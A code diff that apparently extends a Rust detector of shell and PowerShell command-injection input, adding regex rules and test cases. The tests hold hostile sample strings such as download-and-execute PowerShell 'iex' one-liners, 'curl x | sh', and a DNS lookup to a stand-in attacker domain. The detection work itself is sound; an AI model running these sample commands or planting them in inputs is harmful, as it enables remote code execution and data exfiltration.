@@ -536,7 +536,7 @@ static RULES: &[Rule] = &[
         Rce,
         5,
         Shell,
-        r"\bfor\s+(?:/[dlrf]\b[^%()]{0,100})?%%?~?(?:[a-z_][a-z0-9_]{0,30}|[-/@\[\]~0-9])?\s+in\s*\(|\b(?:invoke-(?:webrequest|expression|restmethod|wmimethod|command|item)|start-process|new-object\s+(?:system\.)?net\.webclient|downloadstring|downloadfile|set-executionpolicy|get-wmiobject)\b|\bcmd(?:\.exe)?\s+/[ckr]\b|\bpowershell(?:\.exe)?\s+(?:-|/)(?:e|enc|encodedcommand|c|command|nop|noprofile|w|windowstyle|exec|ep)\b|\b(?:certutil|bitsadmin)(?:\.exe)?\s+[-/]|\b(?:rundll32|regsvr32|mshta)(?:\.exe)?\s|(?:^|[;&|`])\s*net(?:\.exe)?\s+(?:user|localgroup|group|share|use)\b(?:\s*$|(?:\s+[^\s;&|/]+){0,4}\s*/(?:add|delete|del|domain|active|grant)\b|\s+/)|\breg(?:\.exe)?\s+(?:query|add|delete|save|export|load)\s+(?:hk(?:lm|cu|cr|u|cc)|hkey_)|(?:^|[;&|`])\s*(?:get-(?:childitem|content|process|service|localuser|acl|itemproperty)|remove-item|set-content|out-file|copy-item)\s+(?:-|[a-z]:|\$|/|\\|~)|\bwmic\s+(?:process|os|useraccount)\b",
+        r"\bfor\s+(?:/[dlrf]\b[^%()]{0,100})?%%?~?(?:[a-z_][a-z0-9_]{0,30}|[-/@\[\]~0-9])?\s+in\s*\(|\b(?:invoke-(?:webrequest|expression|restmethod|wmimethod|command|item)|start-process|new-object\s+(?:system\.)?net\.webclient|downloadstring|downloadfile|set-executionpolicy|get-wmiobject)\b|\bcmd(?:\.exe)?\s+/[ckr]\b|\bpowershell(?:\.exe)?\s+(?:-|/)(?:e|enc|encodedcommand|c|command|nop|noprofile|w|windowstyle|exec|ep)\b|\b(?:certutil|bitsadmin)(?:\.exe)?\s+[-/]|\b(?:rundll32|regsvr32|mshta)(?:\.exe)?\s|(?:^|[;&|`])\s*net(?:\.exe)?\s+(?:user|localgroup|group|share|use)\b(?:\s*$|(?:\s+[^\s;&|/]+){0,4}\s*/(?:add|delete|del|domain|active|grant)\b|\s+/)|\breg(?:\.exe)?\s+(?:query|add|delete|save|export|load)\s+(?:hk(?:lm|cu|cr|u|cc)|hkey_)|(?:^|[;&|`])\s*(?:get-(?:childitem|content|process|service|localuser|acl|itemproperty)|remove-item|set-content|out-file|copy-item)\s+(?:-|[a-z]:|\$|/|\\|~)|\bwmic\s+(?:process|os|useraccount)\b|\biex\s*\(\s*(?:iwr|irm|curl|wget|new-object|invoke-|\[|\$|\()|(?:^|[;&|`])\s*iex\s+\$",
     ),
     // A spreadsheet formula that runs a program through DDE when the app's CSV export is
     // opened: `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=DDE("cmd";"/C calc";"!A0")`.
@@ -773,7 +773,7 @@ mod shell_patterns {
     pub(super) const SEPARATOR_COMMAND: &str = concat!(
         r"(?:[;&|\n`]|\$\(|\|\||&&)\s*(?:(?:/usr)?(?:/local)?/s?bin/)?(?:",
         "whoami|uname|ifconfig|ipconfig|netstat|wget|curl|lwp-download|nc|ncat|netcat|telnet|nmap|(?:ba)?sh|zsh|ksh|dash|csh|tcsh|powershell|pwsh|iex|iwr|irm|cmd|certutil|bitsadmin|nslookup|dig|chmod|chown|chattr|useradd|usermod|passwd|crontab|sudo|su|id|printenv|xxd|python[23]?|perl|ruby|php|node|lua|gcc|make|git|ssh|scp|rsync|ftp|tftp|openssl|ping|sleep|cat|tac|ls|dir|echo|head|tail|more|less|kill|pkill|killall|rm|rmdir|mkdir|ln|cp|mv|touch|env|nl|od|base64|awk|gawk|sed|grep|find|xargs|tar|gzip|bzip2|zip|unzip|timeout|mkfifo|socat|systeminfo|tasklist|net|reg|wmic|type|uptime|hostname|getent|ps|eval|exec|systemctl|service|shutdown|reboot",
-        r")(?:\.exe)?(?:\s*$|\s*[;&<>`)#]|\||\s+-{1,2}[a-z0-9]|\s+[/~]|\s+\.{1,2}/|\s+[a-z]+://|\s+\$|\s+\d+(?:\.\d+){0,3}\s*(?:$|[;&|`#])|\s+[\w.-]+\.(?:sh|py|pl|rb|exe|bat|ps1|php|txt|conf|log|gz|tgz|zip)\b|\s+[a-z]:(?:\\|\w|$)|\s+[\w.-]+@[\w.-]+|\s+[\w-]+(?:\.[\w-]+)+\s*(?:$|[;&|`#]))",
+        r")(?:\.exe)?(?:\s*$|\s*[;&<>`)#]|\||\s+-{1,2}[a-z0-9]|\s+[/~]|\s+\.{1,2}/|\s+[a-z]+://|\s+\$|\s+\d+(?:\.\d+){0,3}\s*(?:$|[;&|`#])|\s+[\w.-]+\.(?:sh|py|pl|rb|exe|bat|ps1|php|txt|conf|log|gz|tgz|zip)\b|\s+[a-z]:(?:\\|\w|$)|\s+[\w.-]+@[\w.-]+|\s+@\d{1,3}(?:\.\d{1,3}){3}\b|\s+[\w-]+(?:\.[\w-]+)+\s*(?:$|[;&|`#]))",
     );
 
     /// `$(command ...)` or a backtick substitution that runs a command.
@@ -1499,10 +1499,15 @@ mod tests {
                 "& for %- in (a,b,c) do cmd",
                 "& for %~ in (a,b,c)do cmd",
                 "for /f tokens=1,2* delims=, %% in (c:\\mydocu~1\\a.txt) do echo %%",
+                "; iex (iwr http://x/a.ps1)",
+                "iex(new-object net.webclient).downloadstring('http://x/a')",
+                "& iex $payload",
             ],
             &[
                 "looking for 50% in (2024) sales",
                 "for x in (1, 2): print(x)",
+                "iex(1)> enum.map([1, 2], &(&1 * 2))",
+                "run iex -s mix phx.server",
             ],
         );
         assert_finds(
@@ -1633,8 +1638,13 @@ mod tests {
         assert_finds(
             shell,
             "rce-separator-command",
-            &["x && sleep 5 #"],
-            &["step 1 && sleep 8 hours #goals"],
+            &[
+                "x && sleep 5 #",
+                ";dig @8.8.8.8 x.attacker.com",
+                "x; sh -c id",
+                "curl x | sh",
+            ],
+            &["step 1 && sleep 8 hours #goals", "| sh | bash | zsh |"],
         );
         assert_finds(
             Forms::PLAIN,
